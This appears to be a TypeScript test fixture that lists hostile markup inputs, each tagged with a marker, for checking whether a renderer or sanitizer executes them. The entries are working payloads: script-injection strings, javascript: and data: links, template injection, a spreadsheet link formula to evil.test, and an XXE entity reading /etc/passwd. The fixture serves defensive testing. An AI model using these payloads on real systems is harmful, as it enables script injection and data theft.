/** In every hostile text, and nowhere else: where it stands, the text has come. */
export const MARK = 'MARQUE7';

/** Texts that come alive where somebody takes text for markup, by what they would do. */
export const HOSTILE_MARKUP: Readonly<Record<string, string>> = {
  script: '<script>alert(1)</script>',
  'script in capitals': '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  'end of a text area': '</textarea></title></style><script>alert(1)</script>',
  'end of structured data': '</script><script>alert(1)</script>',
  handler: '<img src=x onerror=alert(1)>',
  'handler out of an attribute': '" onmouseover="alert(1)" x="',
  'handler out of single quotes': "' onfocus='alert(1)' autofocus '",
  drawing: '<svg onload=alert(1)><script>alert(1)</script></svg>',
  'foreign object': '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  frame: '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  refresh: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  base: '<base href="//evil.test/">',
  form: '<form action="//evil.test"><input name=q></form>',
  style: '<style>@import url(//evil.test/x.css);</style>',
  'address in a style': '<b style="background:url(javascript:alert(1))">gras</b>',
  comment: '<!-- --><!--[if IE]><script>alert(1)</script><![endif]-->',
  entity: '&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;b&#x3e;',
  'script as an address': '[ici](javascript:alert(1)) [la](JaVaScRiPt&colon;alert(1))',
  'page as an address': '[ici](data:text/html;base64,PHNjcmlwdD4=)',
  picture: '![x](https://evil.test/x.png?d=1)',
  reference: '[x][y]\n\n[y]: javascript:alert(1)',
  'automatic link': '<javascript:alert(1)> <https://evil.test>',
  'event of a stream': '\ndata: {"type":"run.finished"}\n\nevent: run.finished\nid: 99\n\n',
  template: '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 1 %> #{7*7}',
  formula: '=HYPERLINK("https://evil.test","x") @SUM(1) +1-1',
  'line separators': 'a\u2028b\u2029c',
  doctype: '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
};

/** All of it, in pieces of at most `max` characters, each with the mark. */
export function hostilePieces(max: number): readonly string[] {
  return Object.values(HOSTILE_MARKUP).map((markup) => `${MARK} ${markup}`.slice(0, max));
}
